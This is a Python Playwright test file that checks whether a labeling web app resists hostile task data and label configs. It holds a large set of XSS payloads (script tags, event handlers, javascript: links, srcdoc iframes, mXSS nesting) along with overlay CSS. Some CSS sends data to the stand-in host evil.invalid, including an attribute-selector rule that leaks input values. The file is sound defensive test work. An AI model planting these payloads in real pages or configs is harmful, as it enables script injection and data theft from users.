"""The page itself: what it is built of, and what data and configs can do to it in a real browser.

GHSA-6xv9-957j-qfhg (task data), CVE-2025-25296 and CVE-2025-47783 (preview), CVE-2026-22033 (stored markup).
"""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import httpx2
import pytest
from playwright.sync_api import Page, expect

from acceptance.house import TOKEN, House
from juryroom.api.static import WEB

built = pytest.mark.skipif(not (WEB / "index.html").exists(), reason="the web app has not been built")

SCRIPTS = (
    "<script>window.pwned = 1</script>"
    '<img src="x" onerror="window.pwned = 2">'
    '<svg onload="window.pwned = 3"><script>window.pwned = 4</script></svg>'
    '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 5">'
    '<iframe srcdoc="<script>parent.pwned = 6</script>"></iframe>'
    '<a href="javascript:window.pwned = 7" id="bait">bait</a>'
    '<form action="/api/projects/" method="post"><button>send</button></form>'
    '<object data="data:text/html,<script>parent.pwned = 8</script>"></object>'
    '<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">'
    '<link rel="stylesheet" href="https://evil.invalid/a.css"><style>*{display:none}</style>'
    '<details open ontoggle="window.pwned = 9">x</details><template><img src=x onerror=pwned=10></template>'
    '<img src="/logout"><img src="/api/projects/{project}/next">'
)
COVERS = (
    '<div style="position:fixed;inset:0;background:red;z-index:99999">a</div>'
    '<div class="dm-peek" style="width:9999px;height:9999px;background:red">b</div>'
    '<div class="skip-link ui-dialog dialog label-top" style="height:9000px;background:red">c</div>'
    '<div style="margin:-2000px 0 0 -2000px;width:9999px;height:9999px;background:red">d</div>'
    '<div style="margin-top:calc(0px - 2000px);height:9999px;background:red">e</div>'
    '<div style="box-shadow:0 0 0 9999px red">f</div>'
    '<div style="float:left;width:9999px;height:9999px;background:red">g</div>'
    '<div style="width:100vw;height:100vh;margin-left:-100vw;background:url(https://evil.invalid/p.png)">h</div>'
)
CONFIG = """<View className="dm-peek"
  style="position: fixed; inset: 0; background: url(https://evil.invalid/v.png); z-index: 99">
  <Style>
    @import url("https://evil.invalid/s.css");
    .label-top, .label-commands, .label-submit {{ display: none; position: fixed }}
    body, html, #root {{ display: none }}
    .view {{ background: url(https://evil.invalid/b.png) }}
    input[value^="a"] {{ background-image: url(https://evil.invalid/a) }}
    @font-face {{ font-family: x; src: url(https://evil.invalid/f.woff) }}
    }} &lt;/style>&lt;script>window.pwned = 20&lt;/script>
  </Style>
  <Header value="$evil" style="position:absolute;top:-500px;height:9999px"/>
  <Text name="text" value="$evil"/>
  <HyperText name="page" value="$evil" clickableLinks="true"/>
  <Markdown value="$evil"/>
  <List name="list" value="$items" title="$evil"/>
  <Choices name="verdict" toName="text">
    <Choice value="same" html="{markup}" hint="{markup}" style="margin:-900px;background:red;height:9999px"/>
    <Choice value="different"/>
  </Choices>
  <TextArea name="why" toName="text" placeholder="{markup}"/>
</View>"""


class _Inline(HTMLParser):
    """Scripts and handlers that stand in a page itself."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = dict(attrs)
        self.found += [f"{tag} {name}" for name in names if name.startswith("on") or name in ("srcdoc", "style")]
        self.found += [f"{tag} without src"] if tag == "script" and not names.get("src") else []
        elsewhere = [value or "" for name, value in attrs if name in ("src", "href")]
        self.found += [value for value in elsewhere if not value.startswith("/") or value.startswith("//")]
        self.found += [tag] if tag in ("style", "base", "iframe", "object", "embed") else []


@built
def test_the_page_has_no_script_of_its_own_and_nothing_from_elsewhere():
    page = _Inline()
    page.feed((WEB / "index.html").read_text())
    assert page.found == []


@built
def test_no_script_is_made_of_text():
    """What the policy without `unsafe-eval` would refuse is not there to begin with."""
    made = re.compile(r"\beval\(|new Function\b|[^.\w]Function\(|document\.write\(|setTimeout\(\s*[\"'`]")
    found = [path.name for path in WEB.rglob("*.js") if made.search(path.read_text())]
    assert found == []


def test_markup_is_only_ever_set_after_the_sanitiser():
    """Every place that takes HTML, by its line: a new one has to be looked at and added here."""
    source = Path(__file__).parents[2] / "web/src"
    sinks = re.compile(
        r"dangerouslySetInnerHTML|\.(inner|outer)HTML\s*=|insertAdjacentHTML|srcDoc=|createContextualFragment"
    )
    lines = {
        f"{path.relative_to(source)}: {line.strip()}"
        for path in source.rglob("*.ts*")
        if ".test." not in path.name
        for line in path.read_text().splitlines()
        if sinks.search(line)
    }
    unsafe = [line for line in lines if "sanitise(" not in line and "__html: html" not in line]
    assert unsafe == []
    for name in {line.split(":")[0] for line in lines if "__html: html" in line}:
        text = (source / name).read_text()
        assert re.search(r"const html = .*sanitise\(", text), name


@pytest.fixture
def evil(house: House) -> int:
    """A project whose config and task attack whoever labels."""
    with httpx2.Client(base_url=house.url, headers={"authorization": f"Token {TOKEN}"}) as http:
        config = CONFIG.format(markup=escape(COVERS + SCRIPTS, quote=True))
        made = http.post("/api/projects/", json={"title": "<b onclick=x()>evil</b>", "label_config": config})
        assert made.status_code == 201, made.text
        id = int(made.json()["id"])
        text = COVERS + SCRIPTS.replace("{project}", str(id))
        instruction = {"expert_instruction": text, "show_instruction": True, "description": text}
        assert http.patch(f"/api/projects/{id}/", json=instruction).status_code == 200
        items = [{"id": "a", "title": text, "html": text}, {"id": text, "html": text, "body": text}]
        rows = [{"data": {"evil": text, "items": items}} for _ in range(3)]
        assert http.post(f"/api/projects/{id}/import", json=rows).status_code == 201
    return id


def test_nothing_in_a_task_or_config_runs_covers_or_calls(house: House, page: Page, evil: int):
    asked: list[str] = []
    broken: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: broken.append(dialog.message))
    page.goto(f"/projects/{evil}/label")
    screen = page.get_by_test_id("label-screen")
    expect(screen).to_have_attribute("data-task-id", re.compile(r"\d+"))
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    for drawn in (".markdown", ".hypertext", ".item-card-html", ".choices-html"):
        expect(page.locator(f".label-stage {drawn}").first).to_be_attached()
    page.locator(".label-stage").evaluate("stage => stage.scrollTo(0, stage.scrollHeight)")
    page.wait_for_timeout(500)

    # Nothing ran, nothing was called in the person's name, and they are still signed in.
    assert page.evaluate("() => window.pwned") is None
    assert broken == []
    assert page.evaluate("() => fetch('/api/current-user/whoami').then(reply => reply.status)") == 200
    assert not [url for url in asked if "evil.invalid" in url and not re.search(r"evil\.invalid/\w+\.(png|jpg)", url)]
    assert not [url for url in asked if "evil.invalid" in url], "neither styles nor their pictures are loaded"
    assert page.locator("iframe, object, embed, base, form[action], .label-stage script").count() == 0

    # What is ours lies on top of everything: each button is what a click on its middle hits.
    for name in ("Submit", "Skip"):
        button = page.get_by_role("button", name=name).first
        expect(button).to_be_visible()
        assert button.evaluate(
            """button => { const box = button.getBoundingClientRect();
            return button.contains(document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)); }"""
        ), name
    edges = page.evaluate(
        """() => ['.label-top', '.label-commands'].map(name => {
            const bar = document.querySelector(name), box = bar.getBoundingClientRect();
            return [0.02, 0.25, 0.5, 0.75, 0.98].every(part =>
                bar.contains(document.elementFromPoint(box.x + box.width * part, box.y + box.height / 2))); })"""
    )
    assert edges == [True, True]


def test_a_bait_of_a_task_does_not_run(house: House, page: Page, evil: int):
    page.goto(f"/projects/{evil}/label")
    expect(page.get_by_test_id("label-screen")).to_have_attribute("data-task-id", re.compile(r"\d+"))
    hrefs = page.evaluate(
        """() => { const shadows = [...document.querySelectorAll('*')].map(element => element.shadowRoot);
        const roots = [document, ...shadows.filter(Boolean)];
        return roots.flatMap(root => [...root.querySelectorAll('a')].map(a => a.getAttribute('href') ?? '')); }"""
    )
    shown = [href.lower().replace("\t", "") for href in hrefs]
    assert not [href for href in shown if href.startswith(("javascript:", "data:", "vbscript:"))]


def test_the_preview_is_drawn_by_the_same_rules(house: House, page: Page, evil: int):
    """The peer's preview was a page of its own that drew whatever config an address gave it."""
    page.goto(f"/projects/{evil}/settings?part=config")
    expect(page.get_by_role("heading").first).to_be_visible()
    page.wait_for_timeout(1000)
    assert page.evaluate("() => window.pwned") is None
    assert page.locator("iframe, object, embed, base").count() == 0
    for path in ("/api/projects/preview", f"/render-lsf?config={SCRIPTS}", f"/?config={SCRIPTS}", "/api/lint"):
        reply = page.request.get(path)
        assert "window.pwned" not in reply.text()


def test_the_browser_is_told_to_refuse_what_we_overlook(house: House, page: Page):
    """The second line: were markup to get through, the policy stops the script."""
    refused: list[str] = []
    page.on("console", lambda message: refused.append(message.text))
    ran = page.evaluate(
        """() => { const made = document.createElement('div'); document.body.append(made);
        made.innerHTML = '<img src="/x" onerror="window.pwned = 1">';
        const script = document.createElement('script'); script.textContent = 'window.pwned = 2';
        const far = document.createElement('script'); far.src = 'https://evil.invalid/x.js';
        document.body.append(script, far);
        return new Promise(done => setTimeout(() => done(window.pwned), 500)); }"""
    )
    assert ran is None
    assert len([text for text in refused if "Content Security Policy" in text]) >= 2
    assert "Content Security Policy" in str(
        page.evaluate("() => fetch('https://evil.invalid/').catch(() => 'refused by Content Security Policy')")
    )
    framed = page.evaluate(
        """() => new Promise(done => {
        document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
        const frame = document.createElement('iframe'); frame.src = 'https://evil.invalid/';
        document.body.append(frame);
        setTimeout(() => done(null), 1000); })"""
    )
    assert framed == "frame-src"
